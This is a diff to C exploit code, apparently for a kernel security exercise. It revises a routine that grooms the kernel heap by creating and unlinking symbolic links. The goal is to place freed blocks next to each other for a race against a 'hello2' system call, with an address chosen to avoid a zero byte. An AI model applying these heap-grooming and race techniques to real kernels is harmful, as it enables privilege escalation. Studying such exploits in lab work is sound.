@@ -9,15 +9,15 @@
  * the address of the next: so we have the kernel free a few, side by side.
  */
 #include <errno.h>
-#include <fcntl.h>
 #include <race.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #define BLOCK 32 /* the smallest that the kernel's heap gives */
-#define FILES 8
+#define LINKS 7 /* with 8 the address would end in a zero byte */
 
 static char name[BLOCK + 4];
 static struct hello2_in in = { name, BLOCK - 1, 7 };
@@ -34,17 +34,17 @@ static void *adversary(void *unused)
 }
 
 /*
- * The kernel keeps a file's name in such a block, gives out blocks from high
- * addresses to low ones, and the one that was freed last before all others.
+ * The kernel keeps a symbolic link's target in such a block, gives out blocks
+ * from high addresses to low ones, and the one freed last before all others.
  */
 static void arrange_heap(void)
 {
 	char path[] = "/tmp/0";
 	char *digit = &path[sizeof(path) - 2];
 
-	for (*digit = '0'; *digit < '0' + FILES; ++*digit)
-		close(open(path, O_CREAT | O_WRONLY, 0600));
-	for (*digit = '0'; *digit < '0' + FILES; ++*digit)
+	for (*digit = '0'; *digit < '0' + LINKS; ++*digit)
+		syscall(SYS_symlink, ".", path);
+	for (*digit = '0'; *digit < '0' + LINKS; ++*digit)
 		unlink(path);
 }
 
